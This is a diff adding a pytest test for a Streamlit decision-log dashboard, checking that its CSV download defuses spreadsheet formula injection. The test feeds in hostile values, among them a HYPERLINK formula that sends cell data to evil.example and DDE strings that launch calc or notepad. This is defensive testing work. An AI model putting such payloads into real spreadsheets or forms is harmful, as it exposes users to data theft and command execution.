@@ -2,11 +2,15 @@
 database so each test starts with no decision log."""
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import io
 import shutil
 import sqlite3
+from pathlib import Path
 
 import pytest
+from streamlit.runtime.media_file_manager import MediaFileManager
 from streamlit.testing.v1 import AppTest
 
 from smc.decision_log import ledger
@@ -179,3 +183,30 @@ def test_a_tampered_log_is_shown_as_broken(fresh_db, sql):
     messages = [e.value for e in at.error]
     assert any("altered outside the dashboard" in m and "record #1" in m and "decisions_no_update" in m
                for m in messages), messages
+
+
+def test_the_decision_log_csv_neutralises_formulas(fresh_db, sql, monkeypatch):
+    """The history table's CSV, as the download button delivers it (its deferred callable run by Streamlit's own
+    media file manager, as on a click): text a spreadsheet would run starts with ', numbers stay numbers."""
+    managers = []
+
+    class Kept(MediaFileManager):  # the real manager, kept so the test can ask it for the file after the run
+        def __init__(self, *args, **kwargs):
+            super().__init__(*args, **kwargs)
+            managers.append(self)
+
+    monkeypatch.setattr("streamlit.testing.v1.app_test.MediaFileManager", Kept)
+    study_id = "IX001"
+    at = run_app(study_id, data_cut(sql, study_id), ESCALATION)
+    rationale = '=HYPERLINK("http://evil.example/?d="&A1,"Click")\n@SUM(1+9)*cmd|\' /C calc\'!A0'
+    fill(at, word="other", rationale=rationale, attendees="  +cmd|' /C notepad'!A0", by="-2+3 ＝Dr Chair")
+    assert at.success and len(stored(fresh_db)) == 1
+    url = managers[-1].execute_deferred(at.download_button(key="decision_csv").proto.deferred_file_id)
+    data = managers[-1].read_file(Path(url).stem).content
+    header, row = csv.reader(io.StringIO(data.decode("utf-8"), newline=""))  # one record
+    record = dict(zip(header, row))
+    assert record["Rationale"] == ("'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")\n"
+                                   "'@SUM(1+9)*cmd|' /C calc'!A0")
+    assert record["Attendees"] == "'+cmd|' /C notepad'!A0"  # stored stripped of its leading spaces
+    assert record["Recorded by"] == "'-2+3 ＝Dr Chair"
+    assert record["Record"] == "1" and data.decode("utf-8").splitlines()[1].startswith("1,")  # a bare number
